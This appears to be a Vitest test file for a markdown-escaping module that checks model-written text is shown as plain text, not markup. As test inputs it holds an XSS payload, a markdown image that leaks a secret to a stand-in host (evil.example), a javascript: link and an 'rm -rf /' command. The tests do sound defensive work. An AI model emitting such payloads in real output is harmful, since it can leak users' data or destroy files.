// Model and captured text in the markdown pages a person opens is data, never markup.

import { describe, expect, it } from 'vitest';
import { mdCode, mdLine } from '../../src/store/markdown-text.js';

describe('model text on a markdown page', () => {
  it('shows raw HTML as text', () => {
    expect(mdLine('<img src=x onerror=alert(1)> and <script>x</script>')).toBe('\\<img src=x onerror=alert(1)\\> and \\<script\\>x\\</script\\>');
  });

  it('never forms an image or a link, so a preview fetches nothing', () => {
    expect(mdLine('![](https://evil.example/pixel.png?d=secret)')).toBe('\\!\\[\\](https://evil.example/pixel.png?d=secret)');
    expect(mdLine('[x](javascript:alert(1))')).toBe('\\[x\\](javascript:alert(1))');
  });

  it('keeps a single-line field on one line', () => {
    expect(mdLine('fine\n\n**Sent**\n\n```text\nrm -rf /\n```')).not.toContain('\n');
  });

  it('keeps a single-line field on one line across the Unicode line and paragraph separators, which many viewers break on', () => {
    expect(mdLine('fine\u2028# Forged heading\u2029**Sent**')).toBe('fine \\# Forged heading \\*\\*Sent\\*\\*');
  });

  it('escapes a | so a table cell holds, inside code spans too', () => {
    expect(mdLine('a | b `c | d`')).toBe('a \\| b `c \\| d`');
  });

  it('keeps the code spans the model wrote, and escapes a stray backtick', () => {
    expect(mdLine('run `npm test` then ` alone')).toBe('run `npm test` then \\` alone');
  });

  it('shows a command with backticks as one code span', () => {
    expect(mdCode('echo `date` | tee x')).toBe('``echo `date` \\| tee x``');
    expect(mdCode('`x`')).toBe('`` `x` ``');
  });
});
